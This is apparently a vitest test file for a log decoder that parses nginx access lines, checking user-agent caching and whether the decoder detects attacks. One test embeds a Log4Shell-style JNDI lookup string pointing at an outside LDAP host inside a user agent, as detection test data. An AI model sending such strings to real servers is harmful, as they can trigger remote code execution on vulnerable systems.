/** A remembered agent must read like one cut afresh, and never stand in for another. */
import { expect, test } from 'vitest';
import { createDecode } from '../decode.ts';

const { decode } = createDecode({ timezone: 'UTC', program: 'nginx' });
const line = (agent: string): string =>
  `192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 12 "-" "${agent}"`;
const plain = 'Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0';

test('an agent is the same the first and every later time, also when one is the beginning of another', () => {
  for (const agent of [plain, `${plain}0`, plain, plain.slice(0, -1), `${plain} (compatible)`, plain, `${plain}0`])
    for (let n = 0; n < 3; n++) expect(decode(line(agent), 0)?.fields['user_agent.original']).toBe(agent);
});

test('an agent that carries an attack is judged each time, also behind a harmless beginning', () => {
  const attack = `${plain} ${'$'}{jndi:ldap://192.0.2.1/a}`;
  for (const agent of [plain, attack, plain, attack])
    expect(decode(line(agent), 0)?.fields['threat.web'], agent).toEqual(agent === attack ? ['jndi'] : undefined);
});
